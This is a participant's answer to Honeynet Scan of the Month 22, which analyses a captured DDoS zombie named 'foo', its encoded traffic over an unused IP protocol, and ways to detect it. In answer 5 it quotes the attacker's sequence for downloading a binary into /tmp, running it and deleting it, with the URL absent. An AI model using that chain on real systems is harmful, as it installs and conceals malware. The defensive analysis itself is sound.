Project Honeynet Scan 22


This was an interesting challenge, although parts of it turned out to be easier than I thought they would be at first glance.  Pretty much all of the work had previously been done and posted at, I just needed to read through it and apply that information to this scan.  Is that cheating?Maybe, but I would have used the information if I were decoding a "real" attack.

1. What is the attacker's IP address?

The attacker's IP address is  It can be found in the first packet decoded by decode.c, in the 4th through 7th bytes (CB AD 90 32).

2. What is the attacker doing first? What do you think is his/her motivation for doing this?

The first thing the attacker does is check /etc/named.conf for entries with "zone" in them to see if the machine is serving DNSfor any zones.  This may be to determine if the machine is a DNS server or not for the DNS-based attacks; a ton of outbound DNS traffic would be normal for a DNS server, but could be suspicious for other machines.

3. Why there is some readable text in packets #17-#25 (and some others), but not in packets #15-#16 (and several others)? What differentiates these groups of packets from each other?

The readable text is due to a buffer overflow in the attacker's encoding routines ( All of the packets with readable text appear to be from the compromised machine to the controller, which implies that either the controller's software didn't suffer from this buffer overflow, or the data immediately past the buffer on the controller's machine wasn't as interesting.  This bug is likely in most of the author's programs, since the packet at 15:57:42.3413 from the controller also had extraneous data.

4. What is the purpose of 'foo'? Can you provide more insights about the internal workings of 'foo'? Do you think that 'foo' was coded by a good programmer or by an amateur?

The purpose and usage of 'foo' is fairly well covered in the 2002 Reverse Challenge responses; put simply, it's a flexible DDOS zombie that uses encoded (not encrypted) network traffic over an unused IP protocol.  Thecombination of an unusual protocol and encoded traffic helps the program avoid detection by IDS systems, and hides itself from casual detection on the compromised system by changing its process name. I believe that 'foo' was coded by a creative amateur programmer, who understands some C/Unix coding but relies on pasting together bits of others' code to solve a problem. The coder should have done a little more QA on his/her code, as that would have probably caught the bufferoverflow leading to the unencoded text in the encoded packets.

5. What is the purpose of './ttserve ; rm -rf /tmp/ttserve' as done by the attacker?

To expand on the question, the whole sequence of commands is:

killall -9 ttserve
lynx -source > /tmp/ttserve
chmod 755 /tmp/ttserve
cd /tmp
rm -rf /tmp/ttserve ./ttserve

So, the attacker kills all existing ttserve processes, downloads the current version to /tmp, makes it executable, runs it, then makes doubly sure it's deleted. Afterthe program is in memory, the executable isn't necessary, and leaving executables laying around in /tmp might get noticed. Of course, mounting /tmp noexec would have helped here.

6. How do you think the attacker will use the results of his activity involving 'foo'?

The tool seems specifically designed for two tasks, to attack a remote machine on command, and to execute commands on the compromised host. The likely activity will be to command a large number of compromised hosts to attack a single target, overwhelming the target's bandwidth or resources.

7. If you administer a network, would you have caught such NVP backdoor communication? If yes, how? If you do not administer a network, what do you think is the best way to prevent such communication from happening and/or detect it?

Unfortunately, today I would not have blocked or detected this tool running on my network, although ingress/egress filtering would have prevented the attacker from using spoofed source IP addresses to control it. Blocking unused IP protocols from passing through the firewall is certainly a good idea, but it's incomplete; the attacker could have just as well used another unused IP protocol, normally-sized ICMP packets, or properly-formatted http/https connections for control.

Normally, my first choice for intrusion-detection would be Snort, but my company has adopted a strong anti-open-source stance. Additionally, no funds are budgeted for purchase of commercialsecurity software, training or equipment. However, router-based and firewall-based egress filtering would block some of the tool's attacks and control methods, and the others would likely cause anunexplained spike in our Internet linkutilization (which is monitored).